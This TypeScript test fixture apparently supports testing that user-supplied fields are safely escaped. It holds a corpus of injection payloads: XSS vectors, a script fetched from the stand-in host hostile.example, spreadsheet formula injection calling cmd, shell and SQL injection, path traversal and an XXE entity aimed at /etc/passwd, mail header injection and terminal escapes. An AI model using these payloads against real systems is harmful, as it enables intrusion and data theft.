/*
 * What somebody writes into a field that we read, to have it run, or obeyed, where we show it: on a page, in a file that is opened
 * with something else, in a mail, on a terminal. Each that runs sets `owned`, asks for a dialog or fetches from HOSTILE_HOST.
 */

/** Nobody's (RFC 2606): a browser that asks it for anything has obeyed. */
export const HOSTILE_HOST = 'hostile.example';

export interface HostileText {
  readonly name: string;
  readonly text: string;
}

const FETCHED = `http://${HOSTILE_HOST}`;

/** One line each, of characters that a person can type: fields that take words of ours take these as well. */
export const HOSTILE_LINES: readonly HostileText[] = [
  { name: 'script', text: '<script>owned=1;alert(1)</script>' },
  { name: 'script from elsewhere', text: `<script src=//${HOSTILE_HOST}/x.js></script>` },
  { name: 'handler', text: '<img src=x onerror=owned=1>' },
  { name: 'handler without end', text: '<img/src/onerror=owned=1 ' },
  { name: 'svg', text: '<svg/onload=owned=1><animate onbegin=owned=1 attributeName=x dur=1s>' },
  { name: 'svg script', text: '<svg><script>owned=1</script></svg>' },
  { name: 'mathml', text: '<math><mi xlink:href="javascript:owned=1">x</mi></math>' },
  { name: 'mutation', text: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=owned=1&gt;">' },
  { name: 'open details', text: '<details open ontoggle=owned=1>' },
  { name: 'focus', text: '<input autofocus onfocus=owned=1>' },
  { name: 'frame', text: '<iframe srcdoc="<script>parent.owned=1</script>">' },
  { name: 'object', text: '<object data="data:text/html,<script>owned=1</script>">' },
  { name: 'base', text: `<base href="${FETCHED}/"><meta http-equiv=refresh content="0;url=${FETCHED}/">` },
  { name: 'style', text: `</style><style>@import "${FETCHED}/x.css";*{background:url(${FETCHED}/x.png)}</style>` },
  { name: 'link', text: `<link rel=stylesheet href=${FETCHED}/x.css><a href=javascript:owned=1 id=owned>x</a>` },
  { name: 'form', text: `<form action=${FETCHED}/><button autofocus>x</button></form>` },
  { name: 'double quotes', text: '" autofocus onfocus="owned=1" x="' },
  { name: 'single quotes', text: "' autofocus onfocus='owned=1' x='" },
  { name: 'backticks', text: '` onmouseover=`owned=1` x=`' },
  { name: 'no quotes', text: 'x onmouseover=owned=1 onfocus=owned=1 tabindex=1 autofocus' },
  { name: 'end of everything', text: '--></title></textarea></style></script></svg></pre></table><script>owned=1</script>' },
  { name: 'cdata', text: ']]><script xmlns="http://www.w3.org/1999/xhtml">owned=1</script><![CDATA[' },
  { name: 'entity', text: '&lt;img src=x onerror=owned=1&gt; &#60;script&#62;owned=1&#60;/script&#62; <!ENTITY x SYSTEM "file:///etc/passwd"> &x;' },
  { name: 'javascript URL', text: 'javascript:owned=1//%0aowned=1' },
  { name: 'JaVaScRiPt URL', text: 'JaVaScRiPt&colon;owned=1' },
  { name: 'data URL', text: 'data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+' },
  { name: 'vbscript URL', text: 'vbscript:msgbox(1)' },
  { name: 'string of a script', text: "';owned=1;//\\';owned=1;//\";owned=1;//\\\";owned=1;//${owned=1}" },
  { name: 'template', text: "{{constructor.constructor('owned=1')()}} ${{7*7}} #{7*7} <%= 7*7 %> {% x %} [[x]]" },
  { name: 'prototype', text: '__proto__ constructor {"__proto__":{"owned":1}}' },
  { name: 'css', text: `x:expression(owned=1);background:url(javascript:owned=1);}*{background:url(${FETCHED}/c.png)` },
  { name: 'UTF-7', text: '+ADw-script+AD4-owned+AD0-1+ADsAPA-/script+AD4-' },
  { name: 'full width', text: '＜script＞owned=1＜/script＞ ＝1+1' },
  { name: 'markdown link', text: `[x](javascript:owned=1) [y](${FETCHED}/) <${FETCHED}/> [z]: ${FETCHED}/ "owned"` },
  { name: 'markdown image', text: `![x](${FETCHED}/x.png) ![y][z]` },
  { name: 'markdown table', text: '| x | y | `code` **bold** # head ~~~ ``` \\| <!-- -->' },
  { name: 'formula =', text: "=cmd|' /C calc'!A0;=1+1" },
  { name: 'formula +', text: '+1+1;+HYPERLINK("http://hostile.example")' },
  { name: 'formula -', text: '-2+3;-1' },
  { name: 'formula @', text: '@SUM(1+1)*cmd|\' /C calc\'!A0' },
  { name: 'rule', text: '";) alert ip any any -> any any (msg:"owned"; sid:1;)' },
  { name: 'zone', text: '. IN A 192.0.2.1 ; $INCLUDE /etc/passwd' },
  { name: 'shell', text: '$(touch owned) `touch owned` ; touch owned | touch owned && touch owned' },
  { name: 'SQL', text: "'; drop table sighting; --" },
  { name: 'path', text: '../../../../etc/passwd%00..\\..\\owned' },
]; // prettier-ignore

/** What no line of ours may hold, and what strangers send all the same. */
export const HOSTILE_CONTROLS: readonly HostileText[] = [
  { name: 'header', text: 'x\r\nBcc: victim@hostile.example\r\nContent-Type: text/html\r\n\r\n<script>owned=1</script>' },
  { name: 'line ends', text: 'x\ry\nz\u2028owned=1\u2029owned=1\u0085owned\u000bowned\u000cowned' },
  { name: 'NUL', text: '<scr\u0000ipt>owned=1</scr\u0000ipt>\u0000' },
  { name: 'formula behind a TAB', text: '\t=1+1\t@SUM(1)' },
  { name: 'terminal', text: '\u001b[2J\u001b[31mowned\u001b]0;owned\u0007\u001b]8;;http://hostile.example\u0007x\u001b]8;;\u0007\u009b2Jx\u009d0;x\u009c\u0008\u0008\u007f' },
  { name: 'turned round', text: '\u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c\u200e' },
  { name: 'not to be seen', text: '<scr\u200bipt>owned=1</scr\u200bipt>\ufeff\u00ad\u{e0041}\u{e007f}' },
  { name: 'halves', text: '\ud800<script>owned=1</script>\udc00\ufffe\uffff' },
]; // prettier-ignore

export const HOSTILE_TEXTS: readonly HostileText[] = [...HOSTILE_LINES, ...HOSTILE_CONTROLS];

/** By what a field's text is found again, whatever was cut or cleaned behind it. Lower case, so that it can stand in a name. */
export function markOf(field: string): string {
  return `zq-${field.toLowerCase().replaceAll(/[^a-z0-9]+/g, '-')}-qz`;
}

/**
 * A text for one field: its mark as a formula, then as many of the corpus as fit, beginning at another one for each field, so that
 * short fields together have all of them.
 */
export function hostile(field: string, most = 300, from: readonly HostileText[] = HOSTILE_LINES): string {
  let text = `=1+${markOf(field)}`;
  const start = Buffer.from(field).reduce((sum, byte) => (sum * 31 + byte) % from.length, 7);
  for (let index = 0; index < from.length; index++) {
    const next = from[(start + index) % from.length]?.text ?? '';
    if (text.length + 1 + next.length <= most) text += ` ${next}`;
  }
  return text.trimEnd();
}
